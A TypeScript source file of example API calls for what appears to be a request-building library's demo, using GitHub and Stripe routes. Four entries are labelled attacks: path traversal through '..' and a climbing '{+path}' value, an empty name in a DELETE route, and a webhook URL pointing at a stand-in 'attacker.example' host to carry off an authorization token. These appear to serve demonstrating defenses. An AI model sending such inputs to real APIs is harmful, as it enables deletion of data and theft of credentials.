import type { Fields } from "./form.js";

/** A call to start from. */
export interface Example extends Partial<Fields> {
  readonly name: string;
  readonly route: string;
}

/** GitHub's, in `waybill` as `github`. */
export const profile = "baseUrl: https://api.github.com\nvendor: github\nversion: v3";

/** Four of them are attacks. The README links the first of these. */
export const examples: readonly Example[] = [
  {
    name: "A search, with defaults",
    route: "GET /repos/{owner}/{repo}/issues{?state,labels}",
    parameters: 'repo: hello-world\nstate: open\nlabels: ["bug", "good first issue"]\nper_page: 50',
    defaults: "owner: octocat\nper_page: 100\nheaders:\n  user-agent: my-app/1.2.3",
  },
  {
    name: "Create something",
    route: "POST /repos/{owner}/{repo}/issues",
    parameters: 'owner: octocat\nrepo: hello-world\ntitle: It\'s broken\nassignees: ["hubot"]',
    defaults: "headers:\n  authorization: token 0000000000000000000000000000000000000001",
  },
  {
    name: "Two layers of defaults",
    route: "GET /orgs/{org}/repos",
    parameters: "per_page: 50\nheaders:\n  x-trace: null",
    defaults:
      "baseUrl: https://github.example.com/api/v3\norg: octokit\nheaders:\n  x-trace: 7\n---\nper_page: 100\ntype: private",
  },
  {
    name: "Arrays and objects for Stripe",
    route: "GET /charges",
    parameters: 'created: {"gte": 1700000000}\nexpand: ["data.customer"]\nlimit: 3',
    profile: "baseUrl: https://api.stripe.com/v1\narrays: indices\nobjects: brackets",
  },
  {
    name: "Attack: two dots for an id",
    route: "DELETE /users/{id}",
    parameters: "id: ..",
    profile: "baseUrl: https://api.example.com/v1",
  },
  {
    name: "Attack: a path that climbs to another one",
    route: "GET /repos/octocat/hello-world/contents/{+path}",
    parameters: "path: ../../../../user/emails",
  },
  {
    name: "Attack: an empty name",
    route: "DELETE /orgs/{org}/teams/{team}",
    parameters: 'org: octokit\nteam: ""',
  },
  {
    name: "Attack: a parameter that takes the token to another host",
    route: "PATCH /app/hook/config",
    parameters: "url: https://attacker.example/steal",
    defaults: "headers:\n  authorization: token 0000000000000000000000000000000000000001",
  },
];

export function textsOf({ route, parameters = "", defaults = "", profile: own = profile }: Example): Fields {
  return { route, parameters, defaults, profile: own };
}

/** The fields under another route: on another path, of the example's values only those that have a placeholder in it. */
export function leaveExample(texts: Fields, example: Example): Fields {
  if (pathOf(texts.route) === pathOf(example.route)) return texts;
  const { parameters, defaults } = textsOf(example);
  const ofExample = new Set(valuesIn(`${parameters}\n${defaults}`));
  const names = new Set(texts.route.match(/[\w.%-]+(?=[^{}]*\})|(?<=\/:)[\w-]+/g));
  const keep = (text: string): string =>
    valuesIn(text)
      .filter((one) => one === "---" || !ofExample.has(one) || names.has(one.split(":", 1)[0] as string))
      .join("\n")
      .replace(/^---\n?|\n?---$/g, "");
  return { ...texts, parameters: keep(texts.parameters), defaults: keep(texts.defaults) };
}

/** The values in the text of a field, each with its name. */
function valuesIn(text: string): string[] {
  return text.split(/\n(?! )/);
}

/** A route without its method and the placeholders of its query. */
function pathOf(route: string): string {
  return route.trim().replace(/^\S*\s+|\{[?&].*$/g, "");
}
